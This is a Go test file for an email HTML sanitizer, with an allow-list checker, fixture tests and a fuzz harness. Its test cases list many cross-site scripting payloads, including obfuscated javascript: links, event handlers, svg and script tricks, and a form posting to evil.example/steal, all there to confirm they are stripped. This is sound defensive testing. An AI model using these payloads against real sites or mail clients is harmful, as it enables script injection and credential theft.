package mailmsg

import (
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// allowedOut is every element SanitizeHTML may emit.
var allowedOut = map[string]bool{}

func init() {
	for _, e := range strings.Fields(`article aside section header footer hgroup summary figure figcaption details
		h1 h2 h3 h4 h5 h6 p div span br hr wbr blockquote pre address center
		abbr acronym b bdi cite code del dfn em i ins kbd mark q s samp small strike strong sub sup time tt u var
		ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td a img`) {
		allowedOut[e] = true
	}
}

var allowedAttr = map[string]bool{
	"title": true, "dir": true, "lang": true, "open": true, "align": true, "valign": true,
	"colspan": true, "rowspan": true, "span": true, "scope": true, "width": true, "height": true,
	"border": true, "cellpadding": true, "cellspacing": true, "start": true, "reversed": true,
	"type": true, "datetime": true, "href": true, "src": true, "alt": true, "rel": true, "target": true,
}

var outHref = regexp.MustCompile(`^(https?|mailto):`)

// checkSafe tokenizes out the way a browser would and fails on any
// element, attribute or URL the policy must not let through. srcPrefix is
// what every image source must start with.
func checkSafe(t *testing.T, out, srcPrefix string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if z.Err() != io.EOF {
				t.Fatalf("tokenizer: %v", z.Err())
			}
			return
		}
		if tt == html.CommentToken || tt == html.DoctypeToken {
			t.Errorf("comment or doctype in output: %q", z.Token().String())
			continue
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken && tt != html.EndTagToken {
			continue
		}
		tok := z.Token()
		if !allowedOut[tok.Data] {
			t.Errorf("element <%s> in output", tok.Data)
		}
		for _, a := range tok.Attr {
			if !allowedAttr[a.Key] || a.Namespace != "" {
				t.Errorf("attribute %s=%q on <%s> in output", a.Key, a.Val, tok.Data)
			}
			switch {
			case a.Key == "href" && !outHref.MatchString(a.Val):
				t.Errorf("href %q in output", a.Val)
			case a.Key == "src" && (tok.Data != "img" || srcPrefix == "" || !strings.HasPrefix(a.Val, srcPrefix)):
				t.Errorf("src %q on <%s> in output", a.Val, tok.Data)
			}
		}
		if tok.Data == "a" && tt == html.StartTagToken {
			var href, rel, target string
			for _, a := range tok.Attr {
				switch a.Key {
				case "href":
					href = a.Val
				case "rel":
					rel = a.Val
				case "target":
					target = a.Val
				}
			}
			if href == "" {
				continue
			}
			for _, want := range []string{"nofollow", "noreferrer"} {
				if !strings.Contains(" "+rel+" ", " "+want+" ") {
					t.Errorf("link %q has rel=%q, lacks %s", href, rel, want)
				}
			}
			if strings.HasPrefix(href, "http") && (target != "_blank" || !strings.Contains(rel, "noopener")) {
				t.Errorf("link %q has target=%q rel=%q, want _blank and noopener", href, target, rel)
			}
		}
	}
}

// cidMap resolves the given Content-IDs to "/att/<n>".
func cidMap(ids ...string) func(string) (string, bool) {
	return func(id string) (string, bool) {
		for i, x := range ids {
			if x == id {
				return fmt.Sprintf("/att/%d", i), true
			}
		}
		return "", false
	}
}

func TestSanitizeHostile(t *testing.T) {
	cases := []struct {
		name string
		in   string
		keep []string // must be in the output
		gone []string // must not be in the output (case-insensitive)
	}{
		{"javascript href", `<a href="javascript:alert(1)">click me</a>`, []string{"click me"}, []string{"javascript", "href", "alert"}},
		{"uppercase javascript", `<A HREF="JaVaScRiPt:alert(1)">up</A><IMG SRC="JAVASCRIPT:alert(2)">`, []string{"up"}, []string{"javascript", "alert"}},
		{"tab in scheme", `<a href="jav&#x09;ascript:alert(1)">tab</a>`, []string{"tab"}, []string{"ascript", "href"}},
		{"newline in scheme", `<a href="jav&#x0A;ascript:alert(1)">nl</a>`, []string{"nl"}, []string{"ascript", "href"}},
		{"entity-encoded scheme", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>`, []string{"ent"}, []string{"alert", "href", "&#"}},
		{"leading space scheme", `<a href="  javascript:alert(1)">sp</a>`, []string{"sp"}, []string{"javascript"}},
		{"vbscript and data href", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a>`, []string{"v", "d"}, []string{"vbscript", "data:", "href"}},
		{"onerror", `<img src=x onerror="alert(1)">after`, []string{"after"}, []string{"onerror", "alert", "<img"}},
		{"event handlers on allowed tags", `<p onclick="evil()" ONMOUSEOVER=evil()>para</p><a href="https://example.org/" onfocus=evil() autofocus>link</a>`,
			[]string{"<p>para</p>", "link", `href="https://example.org/"`}, []string{"evil", "onclick", "onmouseover", "onfocus", "autofocus"}},
		{"script", `<script>alert(1)</script>visible<SCRIPT SRC="https://evil.example/x.js"></SCRIPT><ScRiPt>alert(2)</sCrIpT>`, []string{"visible"}, []string{"script", "alert", "evil"}},
		{"nested script trick", `<<script>script>alert(1)<</script>/script>`, nil, []string{"<script", "alert(1)"}},
		{"svg onload", `<svg onload="alert(1)"><circle r="1"/><text>vector words</text></svg>after`, []string{"after"}, []string{"<svg", "onload", "alert", "circle"}},
		{"math", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>ok`, []string{"ok"}, []string{"javascript", "maction", "<math"}},
		{"style element", `<style>body{display:none} @import url(https://evil.example/x.css);</style><p>shown</p>`, []string{"<p>shown</p>"}, []string{"style", "display", "evil"}},
		{"style attr, class, id", `<p style="background:url(https://t.example/p.gif)" class="btn btn-primary" id="main">styled</p>`, []string{"<p>styled</p>"}, []string{"style=", "url(", "class", "btn", "id="}},
		{"data uri image", `<img src="data:image/png;base64,iVBORw0KGgo=">x<img src="DATA:image/svg+xml,<svg onload=alert(1)>">`, []string{"x"}, []string{"data:", "alert", "<img"}},
		{"remote images", `<img src="https://tracker.example/p.gif?u=1" width="1" height="1" alt=""><img src="//tracker.example/p.gif"><img src="/rel.png"><img srcset="https://tracker.example/x.png 1x">text`,
			[]string{"text"}, []string{"tracker", "rel.png", "srcset", "src="}},
		{"iframe object embed", `<iframe src="https://evil.example/">frame text</iframe><object data="https://evil.example/x.swf"><param name=a value=b>obj</object><embed src="https://evil.example/e">after`,
			[]string{"after"}, []string{"iframe", "object", "embed", "evil", "param", "frame text"}},
		{"forms", `<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button formaction="https://evil.example/">Send</button><textarea>notes</textarea></form>`,
			[]string{"Send", "notes"}, []string{"form", "input", "button", "evil", "textarea", "password"}},
		{"head and title", `<html><head><title>Secret title</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"></head><body bgcolor="red" background="https://t.example/bg.gif">Body text</body></html>`,
			[]string{"Body text"}, []string{"Secret title", "<meta", "refresh", "<base", "<link", "evil", "<html", "<head", "<body", "bgcolor", "background"}},
		{"table background", `<table background="https://t.example/bg.gif" border="1" style="width:10px"><tr><td bgcolor="#fff" colspan="2" onclick="x()">cell</td></tr></table>`,
			[]string{"<table border=\"1\">", `<td colspan="2">cell</td>`}, []string{"background", "bgcolor", "onclick", "style"}},
		{"comments", `<div><!--[if mso]><script>alert(1)</script><![endif]-->kept<!-- secret --></div>`, []string{"<div>kept</div>"}, []string{"alert", "secret", "<!--"}},
		{"noscript and template", `<noscript><img src="https://t.example/x"></noscript><template><p>hidden</p></template>seen`, []string{"seen"}, []string{"t.example", "hidden", "template", "noscript"}},
		{"link rel and target from input", `<a href="https://example.org/x" target="_self" rel="opener">ok</a>`, []string{"ok", `href="https://example.org/x"`, `target="_blank"`}, []string{"_self", `"opener"`}},
		{"relative and fragment links", `<a href="/admin/delete">rel</a><a href="#top">frag</a><a href="//evil.example/">proto</a>`, []string{"rel", "frag", "proto"}, []string{"href", "admin", "evil"}},
		{"mailto kept", `<a href="mailto:kari@example.no">mail</a>`, []string{`href="mailto:kari@example.no"`, "mail</a>"}, nil},
		{"unresolved cid", `<img src="cid:unknown@example.com" alt="logo">`, nil, []string{"cid:", "unknown", "src"}},
		{"cid with handler", `<img src="cid:logo@example.com" onerror="alert(1)" style="width:1px">`, []string{`<img src="/att/0">`}, []string{"onerror", "alert", "style", "cid:"}},
		{"cid uppercase, encoded", `<IMG SRC="CID:logo%40example.com">`, []string{`src="/att/0"`}, []string{"cid"}},
		{"formatting kept", `<p>Hei <b>Kari</b>, <i>takk</i> &amp; <u>ha det</u><br>– Ola</p><ul><li>én</li></ul><blockquote>sitat</blockquote>`,
			[]string{"<p>Hei <b>Kari</b>, <i>takk</i> &amp; <u>ha det</u><br>– Ola</p>", "<ul><li>én</li></ul>", "<blockquote>sitat</blockquote>"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := SanitizeHTML(c.in, cidMap("logo@example.com"))
			checkSafe(t, out, "/att/")
			for _, k := range c.keep {
				if !strings.Contains(out, k) {
					t.Errorf("output lacks %q:\n%s", k, out)
				}
			}
			lower := strings.ToLower(out)
			for _, g := range c.gone {
				if strings.Contains(lower, strings.ToLower(g)) {
					t.Errorf("output still has %q:\n%s", g, out)
				}
			}
		})
	}
}

func TestSanitizeCIDResolver(t *testing.T) {
	in := `<img src="cid:a@x" alt="A"><img src="cid:a@x"><img src="cid:b@x" alt="B"><img src="cid:c@x">`
	calls := map[string]int{}
	out := SanitizeHTML(in, func(id string) (string, bool) {
		calls[id]++
		switch id {
		case "a@x":
			return "/att/1?inline=1&x=2", true
		case "b@x":
			return "javascript:alert(1)", true // a broken resolver must not open a hole
		}
		return "", false
	})
	checkSafe(t, out, "/att/1")
	if n := strings.Count(out, `src="/att/1?inline=1&amp;x=2"`); n != 2 {
		t.Errorf("resolved image appears %d times, want 2:\n%s", n, out)
	}
	if strings.Contains(out, "javascript") || strings.Contains(out, "cid:") {
		t.Errorf("unsafe or unresolved source kept:\n%s", out)
	}
	if !strings.Contains(out, `alt="B"`) {
		t.Errorf("dropped image lost its alt text:\n%s", out)
	}
	for id, n := range calls {
		if n != 1 {
			t.Errorf("resolver called %d times for %s, want once", n, id)
		}
	}

	// A nil resolver drops every image source.
	out = SanitizeHTML(in, nil)
	checkSafe(t, out, "")
	if strings.Contains(out, "src") {
		t.Errorf("nil resolver kept a source:\n%s", out)
	}
	if SanitizeHTML("  \n", nil) != "" {
		t.Error("blank input did not give empty output")
	}
}

// sanitizeFixture sanitises a fixture's HTML, resolving its attachments'
// Content-IDs to "/att/<index>".
func sanitizeFixture(t *testing.T, name string) (*Message, string) {
	t.Helper()
	m := parseFixture(t, name)
	if m.HTML == "" {
		t.Fatalf("%s has no HTML body", name)
	}
	out := SanitizeHTML(m.HTML, func(id string) (string, bool) {
		for i, a := range m.Attachments {
			if a.ContentID == id {
				return fmt.Sprintf("/att/%d", i), true
			}
		}
		return "", false
	})
	checkSafe(t, out, "/att/")
	return m, out
}

func TestSanitizeFixtures(t *testing.T) {
	cases := []struct {
		file string
		keep []string
		gone []string
		imgs int // images left, all with rewritten cid sources
	}{
		{file: "html/html-only-outlook-spam.eml",
			keep: []string{"verdient er 35 Millionen Euro pro Jahr", "Vermögen von 100 Millionen Euro!", `<a href="http://www.geheimesgeld.ru"`},
			gone: []string{"iqsbyx", "<title", "style=", "<html", "<body"}},
		{file: "apple-mail/apple-mail-html-inline-cid-image.eml",
			keep: []string{"Test of HTML section", `<img height="16" width="16" src="/att/0">`},
			gone: []string{"cid:", "apple-width", "id="}, imgs: 1},
		{file: "attachments/cid-images-rfc2231-utf8-filename.eml",
			keep: []string{"<b>Hello</b> to myself", `<img src="/att/0"/>`, `<img src="/att/1"/>`, "nyan cat"},
			gone: []string{"cid:"}, imgs: 2},
		// Mailchimp: every image is remote and must be gone; links and
		// tables stay.
		{file: "bulk/mailchimp-list-id-unsubscribe.eml",
			keep: []string{"View this email in your browser", `href="https://mailchi.mp/eb93241944da/`, "<table", "<td valign=\"top\">"},
			gone: []string{"gallery.mailchimp.com", "cdn-images.mailchimp.com", "<style", "style=", "class=", "So=2C", "<title"}},
		// Inline cid images are rewritten, the emailsys tracking pixel dropped.
		{file: "bulk/newsletter-precedence-bulk-latin1-subject.eml",
			keep: []string{"Si ce message ne s&#39;affiche pas correctement", `src="/att/0"`, `src="/att/4"`, `alt="Aimez notre page`},
			gone: []string{"emailsys2a.net/o/", "cid:", "style="}, imgs: 5},
		{file: "bounce/gmail-dsn-multipart-report.eml",
			keep: []string{"Message not delivered", `src="/att/0"`, `href="https://support.google.com/mail/?p=CustomFromDenied"`},
			gone: []string{"font-family", "<style", "cid:icon.png"}, imgs: 1},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			_, out := sanitizeFixture(t, c.file)
			for _, k := range c.keep {
				if !strings.Contains(out, k) {
					t.Errorf("output lacks %q", k)
				}
			}
			for _, g := range c.gone {
				if strings.Contains(out, g) {
					t.Errorf("output still has %q", g)
				}
			}
			if n := len(imgWithSrc.FindAllString(out, -1)); n != c.imgs {
				t.Errorf("%d images with a source in output, want %d", n, c.imgs)
			}
		})
	}
}

// TestSanitizeAllFixtures runs every HTML body in testdata through the
// policy and checks the output is safe and keeps some text.
func TestSanitizeAllFixtures(t *testing.T) {
	for _, f := range fixtures {
		m := parseFixture(t, f.file)
		if strings.TrimSpace(m.HTML) == "" {
			continue
		}
		t.Run(f.file, func(t *testing.T) {
			_, out := sanitizeFixture(t, f.file)
			if strings.TrimSpace(stripTags(out)) == "" {
				t.Errorf("no visible text left")
			}
		})
	}
}

var imgWithSrc = regexp.MustCompile(`<img[^>]*\ssrc=`)

var tagPattern = regexp.MustCompile(`<[^>]*>`)

func stripTags(s string) string { return tagPattern.ReplaceAllString(s, "") }

func BenchmarkSanitizeNewsletter(b *testing.B) {
	m, err := Parse(readFixture(b, "bulk/mailchimp-list-id-unsubscribe.eml"))
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		SanitizeHTML(m.HTML, nil)
	}
}

// FuzzSanitizeHTML checks the output invariants of checkSafe for any input.
// The seeds are the hostile snippets and the HTML bodies of the fixtures.
func FuzzSanitizeHTML(f *testing.F) {
	for _, s := range []string{
		`<a href="jav&#x09;ascript:alert(1)">x</a>`, `<img src="cid:logo@example.com" onerror=alert(1)>`,
		`<svg onload=alert(1)>`, `<style>*{}</style>`, `<<script>script>alert(1)<</script>/script>`,
		`<a href="https://example.org/" target=_self rel=opener>x</a>`, `<table background="https://t/x"><tr><td>x`,
	} {
		f.Add(s)
	}
	for _, fx := range fixtures {
		if m, err := Parse(readFixture(f, fx.file)); err == nil && m.HTML != "" {
			f.Add(m.HTML)
		}
	}
	f.Fuzz(func(t *testing.T, in string) {
		checkSafe(t, SanitizeHTML(in, cidMap("logo@example.com")), "/att/")
	})
}
